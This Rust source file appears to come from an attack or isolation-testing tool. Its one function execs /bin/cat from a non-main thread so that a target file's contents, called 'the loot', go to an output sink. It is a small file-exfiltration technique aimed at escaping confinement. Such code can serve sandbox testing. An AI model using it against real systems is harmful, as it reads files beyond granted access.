//! A thread that is not the process's first becomes another program, which takes over the process.

use std::io;
use std::os::unix::process::CommandExt;
use std::process::Command;

use super::target::FileTarget;
use crate::attack::slot::Slot;

/// `execve` of `cat` in a new thread, with the loot as standard output. Returns only where it failed.
///
/// # Errors
/// Those of `execve`.
pub fn attempt(target: &FileTarget, slot: Slot<'_>) -> io::Result<()> {
    let sink = slot.sink()?;
    std::thread::scope(|scope| {
        let thread = scope.spawn(|| Command::new("/bin/cat").arg(&target.path).stdout(sink).exec());
        Err(thread
            .join()
            .unwrap_or_else(|_| io::Error::other("the thread panicked")))
    })
}
